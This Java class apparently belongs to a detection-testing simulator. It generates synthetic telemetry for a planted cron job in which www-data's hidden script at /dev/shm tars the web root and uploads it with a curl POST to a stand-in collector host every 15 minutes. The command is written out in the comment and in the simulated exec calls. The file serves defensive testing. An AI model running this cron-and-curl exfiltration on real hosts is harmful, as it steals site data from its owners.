package dev.cronhound.cli.simulate;

import static dev.cronhound.cli.simulate.EstateActivity.between;
import static dev.cronhound.cli.simulate.TimeWindow.MINUTE;

import java.util.SplittableRandom;

/**
 * Planted: {@code www-data}'s crontab runs {@code /dev/shm/.cache/up.sh} every 15 minutes; the
 * script tars the web root to {@code /tmp/.d.tgz}, posts it with {@code curl -s -X POST
 * --data-binary @/tmp/.d.tgz https://collector.storage-sync.example/u} (203.0.113.80:443, 0.2-2
 * MB up; curl starts 1.35-2.95 s after the cron minute) and removes it.
 */
final class UploadScriptJob extends CrontabJob {
  static final String COMMAND = "/dev/shm/.cache/up.sh";
  static final Program SCRIPT = Program.script(COMMAND, DebianPrograms.SH, LinuxUser.WWW_DATA);

  private final LinuxDestinations destinations;

  UploadScriptJob(LinuxHost host, LinuxDestinations destinations, SplittableRandom random) {
    super(
        random,
        job -> CronEntry.user(LinuxUser.WWW_DATA, "*/15 * * * *", COMMAND, job),
        line ->
            LinuxCase.ofCron(
                "cron-curl-upload",
                "AN1119",
                host,
                line,
                DebianPrograms.CURL,
                destinations.collector,
                900,
                null,
                "www-data crontab every 15 min: sh -c > up.sh > tar, curl; 0.2-2 MB up"));
    this.destinations = destinations;
  }

  @Override
  public long run(LinuxHost host, LinuxProcess shell, long t) {
    LinuxCase truth = truth();
    truth.counts().runs++;
    LinuxProcess script = host.exec(t, shell, SCRIPT, COMMAND);
    long minute = Math.floorDiv(host.clock(t), MINUTE) * MINUTE;
    long curlAt = host.trueTime(minute + between(random, 1_350_000, 2_950_000));
    long at = t + between(random, 2_000, 6_000);
    LinuxProcess tar =
        host.exec(at, script, DebianPrograms.TAR, "tar", "czf", "/tmp/.d.tgz", "-C", "/var/www", "html");
    host.exit(tar, curlAt - between(random, 3_000, 8_000));
    LinuxProcess curl =
        host.exec(
            curlAt,
            script,
            DebianPrograms.CURL,
            "curl",
            "-s",
            "-X",
            "POST",
            "--data-binary",
            "@/tmp/.d.tgz",
            "https://" + LinuxDestinations.COLLECTOR_NAME + "/u");
    at = curlAt + between(random, 15_000, 40_000);
    long up = between(random, 200_000, 2_000_000);
    long down = between(random, 200, 700);
    long duration = Throughput.duration(random, up, 1, 6);
    at = host.transfer(curl, at, destinations.collector, true, up, down, duration, truth.counts());
    at += between(random, 3_000, 9_000);
    host.exit(curl, at);
    at += between(random, 1_000, 3_000);
    LinuxProcess rm = host.exec(at, script, DebianPrograms.RM, "rm", "-f", "/tmp/.d.tgz");
    at += between(random, 1_000, 3_000);
    host.exit(rm, at);
    at += between(random, 500, 1_500);
    host.exit(script, at);
    return at;
  }
}
